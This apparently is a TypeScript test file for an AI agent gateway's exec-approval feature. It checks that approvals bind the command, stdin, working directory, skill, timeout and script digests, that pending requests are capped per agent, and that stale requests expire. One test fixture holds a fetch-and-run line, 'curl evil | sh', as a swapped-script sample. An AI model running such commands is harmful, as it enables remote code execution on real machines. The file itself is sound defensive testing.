// Approvals bind the whole request: command, stdin digest, cwd, the skill named, timeout and script digests; a use
// with any of them changed is refused naming it (the approval stays unused). At most 20 pending per
// agent (the next is a 429). Due requests expire in the background, with no one reading them.
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execApprovals } from '@/db/schema';
import { type Actor, ROLE_PERMISSIONS } from '@/lib/auth';
import { createToken } from '@/lib/auth/tokens';
import { updatePolicySettings } from '@/lib/settings';
import { apiUser } from '@/test/helpers/api';
import { type ConfigFixture, docker, startConfigFixture } from '@/test/helpers/sandbox-configs';
import { waitFor } from '@/test/helpers/services';
import type { Evaluation } from '../types';
import { type ApprovalBinding, consumeApproval, decideApproval, expireDue, MAX_PENDING_PER_AGENT, requestApproval, startApprovalExpiry } from './approvals';
import { sha256Hex } from './binding';

let f: ConfigFixture;
let admin: { token: string; actor: Actor };
let gw: string;
const db = () => f.s.database.db;
const evaluation = {
  decision: 'approval',
  rule: 'deny_group:package_install',
  segment: 'pip install x',
  reason: 'test',
  segments: [],
} as unknown as Evaluation;
const binding: ApprovalBinding = {
  stdinSha256: sha256Hex('print(1)\n'),
  cwd: '/workspace',
  skill: 'pdf-tools',
  timeoutMs: 30_000,
  scripts: [{ path: '/workspace/run.sh', sha256: sha256Hex('echo hi\n') }],
};
const pendingFor = async (agentId: string) =>
  (await db().select().from(execApprovals).where(eq(execApprovals.agentId, agentId))).filter((r) => r.state === 'pending').length;

beforeAll(async () => {
  f = await startConfigFixture();
  admin = await apiUser(f.s, { email: 'approver@binding.test', role: 'admin', tokenName: 'a', permissions: [...ROLE_PERMISSIONS.admin] });
  const cfg = (await f.call('createSandboxConfig', admin.token, { body: docker() })).json.id;
  const made = await f.call('createAgent', admin.token, {
    body: { id: 'holder', name: 'holder', sandboxConfigId: cfg, policyOverrides: { denyGroups: { package_install: 'approval' }, approvalForMedium: true } },
  });
  expect(made.status, JSON.stringify(made.json)).toBe(201);
  gw = (await createToken(db(), admin.actor, { name: 'gw', permissions: ['agents.read', 'agents.exec'], expiresInDays: 1, agentIds: ['holder'] })).token;
  await updatePolicySettings(db(), admin.actor, { approvalMode: '202' });
});
afterAll(async () => {
  await f?.stop();
});

describe('an approval binds the whole request', () => {
  let id: string;
  beforeAll(async () => {
    id = (await requestApproval({ db: db() }, admin.actor, { agentId: 'bound', command: 'pip install x', evaluation, timeoutSeconds: 600, binding })).id;
    await decideApproval({ db: db() }, admin.actor, id, 'approved');
  });

  it.each([
    ['command', 'pip install y', {}],
    ['stdin', 'pip install x', { stdinSha256: sha256Hex('print(2)\n') }],
    ['stdin', 'pip install x', { stdinSha256: null }],
    ['cwd', 'pip install x', { cwd: '/tmp' }],
    ['skill', 'pip install x', { skill: 'other-skill' }],
    ['skill', 'pip install x', { skill: null }],
    ['timeoutMs', 'pip install x', { timeoutMs: 3_600_000 }],
    ['scripts', 'pip install x', { scripts: [{ path: '/workspace/run.sh', sha256: sha256Hex('curl evil | sh\n') }] }],
    ['scripts', 'pip install x', { scripts: [] }],
  ] as [string, string, Partial<ApprovalBinding>][])(
    'a use with %s changed is refused naming it, and the approval stays unused',
    async (field, command, change) => {
      const err = await consumeApproval({ db: db() }, admin.actor, id, 'bound', command, { ...binding, ...change }).catch((e) => e);
      expect(err.code).toBe('validation');
      expect(err.details.changed).toEqual([field]);
      expect(err.message).toContain(`${field} changed`);
      expect(err.issues[0].path).toBe(field);
      const [row] = await db().select().from(execApprovals).where(eq(execApprovals.id, id));
      expect(row.usedAt).toBeNull();
    },
  );

  it('the same request (scripts in any order) is used once', async () => {
    const r = await consumeApproval({ db: db() }, admin.actor, id, 'bound', 'pip install x', { ...binding, scripts: [...(binding.scripts ?? [])].reverse() });
    expect(r.usedAt).not.toBeNull();
    const again = await consumeApproval({ db: db() }, admin.actor, id, 'bound', 'pip install x', binding).catch((e) => e);
    expect(again.code).toBe('invalid_state');
  });
});

describe('through the gateway exec', () => {
  const exec = (body: Record<string, unknown>) => f.call('agentExec', gw, { params: { id: 'holder' }, body });

  it('the request records stdin digest, cwd and timeout, the approver sees them, and a re-send with other stdin is refused', async () => {
    const held = await exec({ command: 'pip install requests', stdin: 'requests==2.0\n', cwd: '/workspace', timeoutMs: 20_000 });
    expect(held.status, JSON.stringify(held.json)).toBe(202);
    const approvalId = held.json.approvalId;
    const seen = await f.call('getApproval', f.tokens.viewer, { params: { id: approvalId } });
    expect(seen.json).toMatchObject({ stdinSha256: sha256Hex('requests==2.0\n'), cwd: '/workspace', timeoutMs: 20_000, scripts: [] });
    expect((await f.call('approveExec', admin.token, { params: { id: approvalId }, body: {} })).status).toBe(200);
    const swapped = await exec({ command: 'pip install requests', stdin: 'evil==6.6.6\n', cwd: '/workspace', timeoutMs: 20_000, approvalId });
    expect(swapped.status).toBe(400);
    expect(swapped.json.error.details.changed).toEqual(['stdin']);
    const moved = await exec({ command: 'pip install requests', stdin: 'requests==2.0\n', cwd: '/', timeoutMs: 20_000, approvalId });
    expect(moved.json.error.details.changed).toEqual(['cwd']);
    const [row] = await db().select().from(execApprovals).where(eq(execApprovals.id, approvalId));
    expect(row.usedAt).toBeNull();
  });

  it(`caps pending requests per agent at ${MAX_PENDING_PER_AGENT}: the next is a 429 with a clear message`, async () => {
    while ((await pendingFor('holder')) < MAX_PENDING_PER_AGENT) expect((await exec({ command: 'pip install requests' })).status).toBe(202);
    const over = await exec({ command: 'pip install requests' });
    expect(over.status).toBe(429);
    expect(over.json.error.code).toBe('rate_limited');
    expect(over.json.error.message).toContain(`already has ${MAX_PENDING_PER_AGENT} approval requests waiting`);
    expect(await pendingFor('holder')).toBe(MAX_PENDING_PER_AGENT);
    // Another agent is not held back by this one's queue.
    await requestApproval({ db: db() }, admin.actor, { agentId: 'other-agent', command: 'ls', evaluation, timeoutSeconds: 60 });
    // Once requests end, new ones are taken again.
    expect(await expireDue({ db: db(), now: () => new Date(Date.now() + 86_400_000) })).toBeGreaterThanOrEqual(MAX_PENDING_PER_AGENT);
    expect((await exec({ command: 'pip install requests' })).status).toBe(202);
  });
});

describe('background expiry', () => {
  it('a due request is expired by the sweep with no one reading it', async () => {
    const past = new Date(Date.now() - 120_000);
    const r = await requestApproval({ db: db(), now: () => past }, admin.actor, { agentId: 'sleepy', command: 'ls', evaluation, timeoutSeconds: 60 });
    const stop = startApprovalExpiry({ db: db() }, 50);
    try {
      const row = await waitFor(async () => {
        const [x] = await db().select().from(execApprovals).where(eq(execApprovals.id, r.id));
        return x.state === 'expired' ? x : null;
      }, 'the sweep to expire the request');
      expect(row.decidedBy).toBe('system');
    } finally {
      stop();
    }
  });
});
